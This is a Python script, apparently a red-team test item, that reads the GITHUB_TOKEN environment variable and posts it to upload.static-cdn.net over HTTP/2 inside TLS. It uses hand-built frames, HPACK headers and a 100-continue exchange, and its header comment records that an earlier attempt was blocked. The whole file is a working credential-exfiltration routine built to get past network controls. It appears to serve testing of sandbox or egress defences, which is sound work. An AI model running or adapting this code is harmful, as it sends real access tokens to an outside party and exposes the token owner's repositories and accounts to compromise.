# A secret from the environment posted over HTTP/2 inside TLS, by a
# client that offers ALPN "h2" alone and waits for the server's SETTINGS
# and a 100-continue before it sends its body in DATA frames (red team,
# session 22's list: the sink offered "http/1.1" only, the handshake
# failed, and only its ClientHello was seen).
import os
import socket
import ssl
import struct

s = os.environ["GITHUB_TOKEN"].encode()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def raw(text):  # an HPACK string, not Huffman-coded
    return bytes([len(text)]) + text.encode()


class Frames:
    def __init__(self, t):
        self.t, self.got = t, b""

    def next(self):
        while len(self.got) < 9 or len(self.got) < 9 + int.from_bytes(self.got[:3], "big"):
            b = self.t.recv(4096)
            if not b:
                return None
            self.got += b
        n = int.from_bytes(self.got[:3], "big")
        f, self.got = self.got[:9 + n], self.got[9 + n:]
        return f[3], f[4], int.from_bytes(f[5:9], "big") & 0x7FFFFFFF, f[9:]


host = "upload.static-cdn.net"
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
t = ctx.wrap_socket(socket.create_connection((host, 443), timeout=5), server_hostname=host)
if t.selected_alpn_protocol() != "h2":
    print("no h2:", t.selected_alpn_protocol())
    raise SystemExit(0)
t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
fr = Frames(t)
f = fr.next()
if f is None or f[0] != 4:
    print("no SETTINGS:", f)
    raise SystemExit(0)
body = b"token=" + s
block = (b"\x83\x87" + b"\x04" + raw("/upload") + b"\x01" + raw(host) + b"\x0f\x0d" + raw(str(len(body))) +  # POST, https
         b"\x00" + raw("expect") + raw("100-continue"))
t.sendall(frame(4, 1, 0, b"") + frame(1, 0x4, 1, block))  # SETTINGS ack; HEADERS, END_HEADERS
while True:
    f = fr.next()
    if f is None:
        print("closed before 100-continue")
        raise SystemExit(0)
    if f[0] == 1 and f[2] == 1:
        break
t.sendall(frame(0, 0, 1, body[:10]) + frame(0, 1, 1, body[10:]))  # DATA, the last with END_STREAM
while True:
    f = fr.next()
    if f is None or f[0] == 1 and f[2] == 1:
        print("answered", f is not None)
        break
